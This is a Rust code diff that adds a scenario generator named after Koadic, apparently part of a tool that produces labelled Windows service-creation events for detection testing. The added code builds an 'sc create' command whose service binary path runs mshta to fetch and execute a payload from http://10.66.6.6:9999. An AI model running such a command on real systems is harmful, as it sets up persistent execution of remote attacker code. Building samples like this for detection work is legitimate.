@@ -493,3 +493,18 @@ pub(super) fn benign_vbox(_: &Target, _: &mut Rng) -> Plan {
         1,
     ))
 }
+
+pub(super) fn koadic_createservice(_: &Target, rng: &mut Rng) -> Plan {
+    let name = rng.letters(10);
+    let image = format!("mshta http://10.66.6.6:9999/{}", rng.letters(5));
+    let mut p = local_plan();
+    p.svc = own(&name, &name, image.clone(), 3);
+    p.client = Some(client(
+        r"C:\Windows\System32\sc.exe",
+        &format!(r#"sc create {name} binpath= "{image}""#),
+        "sc.exe",
+    ));
+    command_removed(&mut p, rng);
+    p.verdict = LOCAL;
+    p
+}
